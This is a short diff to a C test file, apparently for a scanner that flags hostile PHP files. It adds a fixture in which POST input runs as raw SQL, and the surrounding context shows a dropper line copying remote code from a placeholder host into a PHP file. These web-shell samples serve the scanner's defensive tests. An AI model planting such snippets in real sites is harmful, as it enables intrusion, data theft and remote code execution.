@@ -241,6 +241,8 @@ test_writers(void)
 	/* a download dropper */
 	T_HAS("x.php", "<?php copy('http://example.invalid/s.txt', 'x.php');", PHPSCAN_REMOTE_DROPPER, PHPSCAN_WEAK,
 	      1);
+	/* a database console */
+	T_HAS("x.php", "<?php $r = mysqli_query($link, $_POST['sql']);", PHPSCAN_SQL_OF_INPUT, PHPSCAN_WEAK, 1);
 	/* a cache file written by the application is not an editor */
 	T_CLEAN("x.php", "<?php file_put_contents(__DIR__ . '/cache/' . md5($_GET['q']) . '.json', json_encode($r));");
 }
